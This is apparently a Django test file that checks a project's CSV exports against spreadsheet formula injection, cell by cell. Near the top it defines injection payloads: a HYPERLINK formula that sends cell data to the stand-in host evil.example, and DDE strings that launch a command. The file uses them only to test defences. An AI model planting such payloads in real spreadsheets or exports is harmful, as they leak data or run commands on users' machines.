"""Formula-safe CSV (wikispiral.csvsafe): the helper, then every CSV the site writes, downloaded
through its view, parsed with the csv module and checked cell by cell. The XLSX twins keep the
same texts unchanged, as text cells."""

import csv
import datetime
import decimal
import io
import json
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from criteria.models import Component, Question
from criteria.transfer import exports
from projects import services as project_services
from projects import summaries
from tests.factories import (
    make_coordination_group,
    make_criterion,
    make_homogeneous_group,
    make_user,
)
from wikispiral import csvsafe

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
TAB = "\t=1+1"
CARRIAGE_RETURN = "\r=1+1"
PAYLOADS = (HYPERLINK, DDE, PLUS, MINUS, AT)
DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")


def _neutralised(payload: str) -> str:
    return "'" + payload


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _content(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _assert_formula_safe(rows: list[list[str]], *expected: str) -> None:
    """No cell begins like a formula, and each expected payload is there, neutralised."""
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(DANGEROUS_FIRST)]
    assert dangerous == []
    for payload in expected:
        assert _neutralised(payload) in cells, payload


def _xlsx_cells(body: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_xlsx_text(body: bytes, *expected: str) -> None:
    """The payloads come out of the workbook unchanged, as text cells (never formulas)."""
    cells = _xlsx_cells(body)
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    found = {cell.value: cell.data_type for cell in cells if isinstance(cell.value, str)}
    for payload in expected:
        assert found.get(payload) == "s", payload


# --- The helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [*PAYLOADS, TAB, CARRIAGE_RETURN])
def test_a_text_starting_like_a_formula_gets_an_apostrophe(payload):
    assert csvsafe.safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "text", ["Eating together", "a = b", "1+1=2", "mail@example.org", "A01-11/P15/k", "'=1+1", " "]
)
def test_a_text_with_formula_characters_only_inside_is_unchanged(text):
    assert csvsafe.safe_cell(text) == text


@pytest.mark.parametrize("number", [0, 42, -120, -120.5, 3.25, decimal.Decimal("-7.10"), True])
def test_a_number_stays_a_number(number):
    assert csvsafe.safe_cell(number) is number


def test_empty_and_none_are_empty_cells():
    assert csvsafe.safe_cell("") == ""
    assert csvsafe.safe_cell(None) == ""


def test_other_values_are_written_as_their_text_and_neutralised():
    class Formula:
        def __str__(self) -> str:
            return AT

    assert csvsafe.safe_cell(datetime.date(2024, 5, 2)) == "2024-05-02"
    assert csvsafe.safe_cell(Formula()) == _neutralised(AT)


def test_safe_row_keeps_numbers_and_neutralises_strings():
    row = [-120.5, "-120.5", MINUS, None, 3, "plain"]
    assert csvsafe.safe_row(row) == [-120.5, "'-120.5", _neutralised(MINUS), "", 3, "plain"]


def test_the_writer_quotes_as_usual_and_writes_numbers_bare():
    out = io.StringIO()
    writer = csvsafe.writer(out, lineterminator="\n")
    writer.writerow([HYPERLINK, -120.5, 7, "plain", None])
    writer.writerows([[TAB], [CARRIAGE_RETURN]])

    assert out.getvalue().splitlines()[0] == (
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",-120.5,7,plain,'
    )
    rows = _csv(out.getvalue().encode())
    assert rows == [
        [_neutralised(HYPERLINK), "-120.5", "7", "plain", ""],
        [_neutralised(TAB)],
        [_neutralised(CARRIAGE_RETURN)],
    ]


def test_writerow_returns_what_the_file_returned():
    class Line:
        def write(self, value: str) -> str:
            return value

    assert csvsafe.writer(Line()).writerow([AT, 1]) == "'@SUM(1+1),1\r\n"


# --- Criteria exports and the open-data archive --------------------------------------------------


@pytest.fixture
def facilitator():
    return make_user()


@pytest.fixture
def tenant(facilitator):
    return make_coordination_group(name=MINUS, facilitator=facilitator)


@pytest.fixture
def young(tenant):
    return make_homogeneous_group(
        tenant=tenant, name=HYPERLINK, slug="-young", language=AT, profile_other=PLUS
    )


@pytest.fixture
def criteria(tenant, young):
    return [
        make_criterion(
            tenant=tenant, group=young, text=text, session_date=datetime.date(2025, 3, 1)
        )
        for text in (*PAYLOADS, TAB, CARRIAGE_RETURN)
    ]


def _export_urls(tenant, group) -> dict:
    return {
        "cg": lambda fmt: reverse("transfer:export_cg", kwargs={"cg": tenant.slug, "fmt": fmt}),
        "hg": lambda fmt: reverse(
            "transfer:export_hg", kwargs={"cg": tenant.slug, "hg": group.slug, "fmt": fmt}
        ),
        "country": lambda fmt: reverse(
            "transfer:export_country", kwargs={"country": tenant.country.code, "fmt": fmt}
        ),
        "network": lambda fmt: reverse("transfer:export_network", kwargs={"fmt": fmt}),
    }


@pytest.mark.parametrize("scope", ["cg", "hg", "country", "network"])
def test_criteria_csv_exports_neutralise_formulas(client, tenant, young, criteria, scope):
    response = client.get(_export_urls(tenant, young)[scope]("csv"))

    assert response.status_code == 200
    rows = _csv(_content(response))
    _assert_formula_safe(rows, *PAYLOADS, TAB, CARRIAGE_RETURN, MINUS)
    text = rows[0].index("text")
    assert [row[text] for row in rows[1:]] == [
        _neutralised(payload) for payload in (*PAYLOADS, TAB, CARRIAGE_RETURN)
    ]
    # Numbers stay numbers: the ids and the year carry no apostrophe.
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["id"] == str(criteria[0].pk)
    assert first["year"] == "2025"
    assert first["coordination_group"] == _neutralised(MINUS)
    assert first["homogeneous_group"] == _neutralised(HYPERLINK)


@pytest.mark.parametrize("scope", ["cg", "hg", "country", "network"])
def test_criteria_xlsx_and_json_exports_carry_the_text_unchanged(
    client, tenant, young, criteria, scope
):
    url = _export_urls(tenant, young)[scope]

    # Not CARRIAGE_RETURN: XML reads a bare CR back as LF, so it returns as "\n=1+1" (still text).
    _assert_xlsx_text(_content(client.get(url("xlsx"))), *PAYLOADS, TAB, MINUS)
    items = client.get(url("json"))
    texts = [item["text"] for item in json.loads(_content(items))]
    assert texts == [*PAYLOADS, TAB, CARRIAGE_RETURN]


def test_the_import_templates_neutralise_formulas_in_csv_only(
    client_for, facilitator, tenant, young
):
    client = client_for(facilitator)

    def url(fmt: str) -> str:
        return reverse("transfer:import_template", kwargs={"cg": tenant.slug, "fmt": fmt})

    rows = _csv(_content(client.get(url("csv"))))
    _assert_formula_safe(rows, "-young", AT)
    _assert_xlsx_text(_content(client.get(url("xlsx"))), "-young", AT, HYPERLINK)


def test_the_open_data_archive_neutralises_formulas_in_every_file(client, tenant, young, criteria):
    Component.objects.filter(version__is_current=True, code="A01").update(
        names={"en": DDE, "fr": PLUS, "pt": AT}
    )
    Question.objects.create(tenant=tenant, code="OWN1", texts={"en": HYPERLINK, "fr": MINUS})

    response = client.get(reverse("transfer:open_data"))

    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(_content(response)))
    expected = {
        "criteria.csv": (*PAYLOADS, TAB, CARRIAGE_RETURN),
        "grid.csv": (DDE, PLUS, AT),
        "questions.csv": (HYPERLINK, MINUS),
        "groups.csv": (MINUS,),
        "homogeneous_groups.csv": (HYPERLINK,),
    }
    for name, payloads in expected.items():
        _assert_formula_safe(_csv(archive.read(name)), *payloads)


def test_a_new_archive_format_rebuilds_the_archive_and_changes_its_etag(
    client, criteria, monkeypatch
):
    url = reverse("transfer:open_data")
    before = client.get(url)
    _content(before)

    monkeypatch.setattr(exports, "OPEN_DATA_FORMAT", exports.OPEN_DATA_FORMAT + 1)
    after = client.get(url, headers={"If-None-Match": before["ETag"]})

    assert after.status_code == 200
    assert after["ETag"] != before["ETag"]
    _content(after)


# --- The grid template (secretariat) -------------------------------------------------------------


def test_the_grid_template_neutralises_formulas(client_for):
    Component.objects.filter(version__is_current=True, code="A01").update(
        names={"en": HYPERLINK, "fr": DDE, "pt": PLUS},
        descriptions={"en": MINUS, "fr": AT, "pt": TAB},
    )
    client = client_for(make_user(secretariat=True))

    response = client.get(reverse("grid:template"))

    assert response.status_code == 200
    _assert_formula_safe(_csv(response.content), *PAYLOADS, TAB)


def test_the_geography_template_has_no_formula(client_for):
    response = client_for(make_user(secretariat=True)).get(
        reverse("secretariat:geography_template")
    )

    assert response.status_code == 200
    _assert_formula_safe(_csv(response.content))


# --- Right choices: summary exports --------------------------------------------------------------


def test_the_summary_csv_neutralises_formulas_and_the_xlsx_keeps_them_as_text(client):
    doer = project_services.participant_join(
        actor=make_user(), kind="citizen", subtype="individual", name=DDE
    )
    sharer = project_services.participant_join(
        actor=make_user(), kind="citizen", subtype="individual", name="Sharer"
    )
    for title in PAYLOADS:
        choice = project_services.choice_create(
            participant=doer,
            actor=doer.members.first().user,
            category="food",
            title=title,
            description="",
            started_on=datetime.date(2025, 1, 1),
            status="started",
            results="",
            emissions_change_kg=-120,
        )
        project_services.choice_share(
            choice=choice, participant=sharer, actor=sharer.members.first().user
        )
    summaries.summaries_recompute(force=True)

    def url(fmt: str) -> str:
        return reverse("projects:summary_export", args=["project", fmt])

    rows = _csv(client.get(url("csv")).content)
    _assert_formula_safe(rows, *PAYLOADS, DDE)
    shared = [row for row in rows if len(row) == 3 and row[0] == _neutralised(AT)]
    assert shared == [[_neutralised(AT), _neutralised(DDE), "1"]]
    _assert_xlsx_text(client.get(url("xlsx")).content, *PAYLOADS, DDE)
